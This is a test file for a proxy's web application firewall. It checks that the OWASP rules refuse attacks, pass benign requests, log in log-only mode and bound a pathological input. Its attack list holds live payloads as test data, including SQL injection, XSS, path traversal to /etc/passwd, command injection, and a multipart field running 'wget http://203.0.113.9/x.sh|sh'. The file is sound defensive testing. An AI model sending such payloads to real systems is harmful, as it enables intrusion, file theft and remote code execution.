// The WAF through the real service, on resources made through the API, with the OWASP Core Rule Set
// from Debian's modsecurity-crs: each attack category refused with 403 and a request id (and the
// same request passing with the WAF off), with the encodings attackers use; benign requests with
// quotes and angle brackets passing; log-only mode forwarding with a log line; a body past the
// inspected size still streamed whole to the origin; a pathological input answered in bounded time.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import { after, before, describe, test } from 'node:test';
import { adminAuth, ask, createResource, startOrigin, type AskOptions, type Origin } from '../support/proxy.ts';
import { startService, type Service } from '../support/service.ts';
import { eventually } from '../support/wait.ts';
import { call } from '../support/http.ts';

/** The access log line naming a request id (lines are written asynchronously). */
const logLine = (service: Service, id: string): Promise<string> =>
  eventually(() => Promise.resolve(service.output().split('\n').find((l) => l.includes(`"request_id":"${id}"`))), 3000);

const crsDir = '/usr/share/modsecurity-crs/rules';
const haveCrs = fs.existsSync(`${crsDir}/REQUEST-942-APPLICATION-ATTACK-SQLI.conf`);
if (!haveCrs) console.warn(`SKIPPED: the WAF tests need the OWASP Core Rule Set in ${crsDir} (apt-get install modsecurity-crs)`);

const browser = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', accept: 'text/html,application/xhtml+xml', 'accept-language': 'en' };

/** Attacks by category, as a client would send them (already URL-encoded where a client must). */
const attacks: [string, string, AskOptions?][] = [
  ['SQL injection', '/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--'],
  ['SQL injection, comments for spaces and mixed case', '/item?id=1/**/UnIoN/**/SeLeCt/**/password/**/FrOm/**/users'],
  ['SQL injection, double URL-encoded', '/item?id=1%2527%2520OR%2520sleep(5)%2523'],
  ['SQL injection, the classic tautology (libinjection-style detection, rule 942100)', "/item?id=1%27%20OR%20%271%27%3D%271"],
  ['SQL injection in a login form: the rest commented out', '/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'user=admin%27--&password=x' }],
  ['SQL injection in a JSON body', '/api/items', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ filter: { name: "x' UNION SELECT password FROM users--" } }) }],
  ['cross-site scripting', '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'],
  ['cross-site scripting, HTML entities', '/search?q=%26lt%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26gt%3B'],
  ['cross-site scripting in a form body', '/comment', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'text=%3Csvg%2Fonload%3Dalert(1)%3E' }],
  ['path traversal', '/download?file=../../../../etc/passwd'],
  ['path traversal, double URL-encoded', '/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'],
  ['path traversal, Unicode-encoded', '/download?file=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd'],
  ['remote command execution', '/ping?host=127.0.0.1%3Bcat%20/etc/passwd'],
  ['remote command execution in a multipart field', '/upload', { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=XyZ' }, body: '--XyZ\r\nContent-Disposition: form-data; name="cmd"\r\n\r\n;wget http://203.0.113.9/x.sh|sh\r\n--XyZ--\r\n' }],
  ['protocol attack: header injection', '/?lang=en%0d%0aSet-Cookie:%20session=evil'],
  ['known scanner', '/', { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }],
];

/** Requests a real site gets that look a little like attacks. */
const benign: [string, string, AskOptions?][] = [
  ['a search for O\'Brien', "/search?q=O'Brien"],
  ['a JSON body with an apostrophe', '/api/users', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: "Dara O'Brien", bio: "I'm a comedian; it's what I do." }) }],
  ['a form with angle brackets that are no tags', '/calc', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'expr=1+%3C+2+and+3+%3E+2&note=a+%3C%3E+b' }],
  ['a page with a query', '/products?category=shoes&sort=price&page=2'],
  ['searches with SQL words and apostrophes', "/search?q=rock+%27n%27+roll&also=select+a+size&or=Tom+and+Jerry&n=1+or+2+items"],
];

describe('proxy WAF (Core Rule Set)', { skip: !haveCrs && `no Core Rule Set in ${crsDir}` }, () => {
  let service: Service;
  let logOnly: Service;
  let auth: string;
  let logAuth: string;
  let origin: Origin;
  /** Body bytes the origin received, by path. */
  const received = new Map<string, number>();

  before(async () => {
    origin = await startOrigin('A', (req, res) => {
      let n = 0;
      req.on('data', (chunk: Buffer) => (n += chunk.length));
      req.on('end', () => {
        received.set(req.url ?? '', n);
        res.writeHead(200, { 'content-type': 'text/plain' });
        res.end('A');
      });
    });
    [service, logOnly] = await Promise.all([
      // A generous budget: on a machine busy with the whole suite, the first requests once ran past
      // the default 100 ms and were refused for the budget, naming no rule. The log-only service
      // keeps the default, and the budget's own test runs there.
      startService({ engine: 'sqlite', env: { EDGEPLANE_WAF_BODY_LIMIT: '16k', EDGEPLANE_WAF_BUDGET: '10s' } }),
      startService({ engine: 'sqlite', env: { EDGEPLANE_WAF_MODE: 'log' } }),
    ]);
    [auth, logAuth] = await Promise.all([adminAuth(service), adminAuth(logOnly)]);
    const on = await createResource(service, auth, { name: 'waf.example', origins: [{ origin_data: origin.address }], is_waf_enabled: true });
    assert.equal(on.service_waf, 'block');
    await createResource(service, auth, { name: 'open.example', origins: [{ origin_data: origin.address }], is_waf_enabled: false });
    const logged = await createResource(logOnly, logAuth, { name: 'waf.example', origins: [{ origin_data: origin.address }], is_waf_enabled: true });
    assert.equal(logged.service_waf, 'log');
  });
  after(async () => {
    await Promise.all([service.dispose(), logOnly.dispose(), origin.close()]);
  });

  for (const [name, path, options] of attacks) {
    test(`refused: ${name}; passes with the WAF off`, async () => {
      const refused = await ask(service, 'waf.example', path, { ...options, headers: { ...browser, ...options?.headers } });
      assert.equal(refused.status, 403, `${name}: ${refused.body}`);
      const id = refused.headers['x-request-id'];
      assert.match(String(id), /^[0-9a-f]{16}$/);
      assert.equal(refused.body, `Forbidden\nrequest id: ${String(id)}\n`);
      const line = await logLine(service, String(id));
      const entry = JSON.parse(line) as { outcome: string; waf: { action: string; rules: number[]; categories: string[] } };
      assert.equal(entry.outcome, 'waf');
      assert.equal(entry.waf.action, 'blocked');
      assert.ok(entry.waf.rules.length > 0);
      const open = await ask(service, 'open.example', path, { ...options, headers: { ...browser, ...options?.headers } });
      assert.equal(open.status, 200, `${name} with the WAF off`);
    });
  }

  test("the tautology 1' OR '1'='1 is found by @detectSQLi (942100), which no regex rule of CRS catches at paranoia 1", async () => {
    const refused = await ask(service, 'waf.example', "/item?id=1%27%20OR%20%271%27%3D%271", { headers: browser });
    assert.equal(refused.status, 403);
    const entry = JSON.parse(await logLine(service, String(refused.headers['x-request-id']))) as { waf: { rules: number[] } };
    assert.deepEqual(entry.waf.rules, [942100]);
  });

  for (const [name, path, options] of benign) {
    test(`passes: ${name}`, async () => {
      const answer = await ask(service, 'waf.example', path, { ...options, headers: { ...browser, ...options?.headers } });
      assert.equal(answer.status, 200, `${name}: ${answer.body}`);
      assert.equal(answer.body, 'A');
    });
  }

  test('log-only mode forwards an attack and logs it, with the request id in the answer', async () => {
    const answer = await ask(logOnly, 'waf.example', '/item?id=1%20UNION%20SELECT%20password%20FROM%20users--', { headers: browser });
    assert.equal(answer.status, 200);
    assert.equal(answer.body, 'A');
    const id = String(answer.headers['x-request-id']);
    const line = await logLine(logOnly, id);
    const entry = JSON.parse(line) as { outcome: string; waf: { action: string; categories: string[] } };
    assert.equal(entry.outcome, 'passed');
    assert.equal(entry.waf.action, 'logged');
    assert.ok(entry.waf.categories.includes('sqli'));
    assert.ok(!line.includes('UNION'), 'the log line never holds the payload');
  });

  test('the matches are counted per resource, category and action', async () => {
    const metrics = await fetch(`${service.url}/metrics`).then((r) => r.text());
    assert.match(metrics, /edgeplane_proxy_waf_matches_total\{resource="\d+",category="sqli",action="blocked"\} [1-9]/);
    assert.match(metrics, /edgeplane_proxy_waf_matches_total\{resource="\d+",category="scanner",action="blocked"\} [1-9]/);
  });

  test('a body past the inspected size reaches the origin whole; an attack within it is refused', async () => {
    const big = Buffer.alloc(5 * 1024 * 1024, 'a');
    // A content type CRS allows (its 3.3.4 policy, rule 920420, refuses application/octet-stream, as ModSecurity does).
    const whole = await ask(service, 'waf.example', '/big', { method: 'POST', headers: { ...browser, 'content-type': 'text/xml' }, body: big });
    assert.equal(whole.status, 200);
    assert.equal(received.get('/big'), big.length);
    // Chunked (no declared length), past the 16 KiB inspected: streamed whole too.
    const pieces = Array.from({ length: 64 }, (_, i) => `f${String(i)}=${'b'.repeat(1000)}&`);
    const chunked = await new Promise<number>((resolve, reject) => {
      const request = http.request({ host: '127.0.0.1', port: service.proxyHttpPort, path: '/chunked', method: 'POST', headers: { ...browser, host: 'waf.example', 'content-type': 'application/x-www-form-urlencoded' }, agent: false }, (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      });
      request.on('error', reject);
      for (const piece of pieces) request.write(piece);
      request.end('last=1');
    });
    assert.equal(chunked, 200);
    assert.equal(received.get('/chunked'), pieces.join('').length + 'last=1'.length);
    const hidden = `pad=${'a'.repeat(1000)}&q=1%20UNION%20SELECT%20password%20FROM%20users--&more=${'b'.repeat(100_000)}`;
    const refused = await ask(service, 'waf.example', '/form', { method: 'POST', headers: { ...browser, 'content-type': 'application/x-www-form-urlencoded' }, body: hidden });
    assert.equal(refused.status, 403);
    assert.equal(received.has('/form'), false, 'a refused body never reaches the origin');
  });

  test('a pathological input is answered in bounded time: inspection stops at its budget, and the request counts as refused', async () => {
    // Built to make the rules' regexes work hardest: long runs that almost match. Unbounded (no
    // windows, regexes that rescan runs), a 128 KiB argument of this kind cost 15 to 30 s; bounded by
    // windows and V8's linear fallback, 0.6 s; the budget (EDGEPLANE_WAF_BUDGET, 100 ms) stops it.
    const evil = `${'('.repeat(40_000)}${' '.repeat(40_000)}${'benchmark('.repeat(2000)}${"'".repeat(20_000)}`;
    const started = performance.now();
    // The log-only service inspects the default 128 KiB of a body (the other one 16 KiB), and forwards what it would refuse.
    const answer = await ask(logOnly, 'waf.example', '/form', { method: 'POST', headers: { ...browser, 'content-type': 'application/x-www-form-urlencoded' }, body: `q=${evil}` });
    const ms = performance.now() - started;
    assert.equal(answer.status, 200);
    assert.ok(ms < 2000, `answered in ${ms.toFixed(0)} ms`);
    const line = await logLine(logOnly, String(answer.headers['x-request-id']));
    assert.match(line, /"budget"/);
  });
});

// A proxy thread imports the WAF's code only when a resource with the WAF on first reaches it: one
// turned on after start must be inspected by every thread all the same, those that never had it too.
describe('proxy WAF turned on after start', { skip: !haveCrs && `no Core Rule Set in ${crsDir}` }, () => {
  test('a resource that turns the WAF on later is inspected by every proxy thread', async () => {
    const origin = await startOrigin('B');
    const service = await startService({ engine: 'sqlite', env: { EDGEPLANE_PROXY_WORKERS: '2' } });
    try {
      const auth = await adminAuth(service);
      const body = { name: 'later.example', origins: [{ origin_data: origin.address }] };
      const { id } = await createResource(service, auth, { ...body, is_waf_enabled: false });
      const attack = '/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--';
      // Each on a new connection: the kernel spreads them over both threads.
      const statuses = async () => Promise.all(Array.from({ length: 12 }, async () => (await ask(service, 'later.example', attack, { headers: browser })).status));
      assert.deepEqual(new Set(await statuses()), new Set([200]));
      const turnedOn = await call(service.url, 'PUT', `/security/resources/${String(id)}`, { auth, body: { ...body, is_waf_enabled: true } });
      assert.equal(turnedOn.status, 200, turnedOn.text);
      assert.deepEqual(new Set(await statuses()), new Set([403]));
    } finally {
      await Promise.all([service.dispose(), origin.close()]);
    }
  });
});
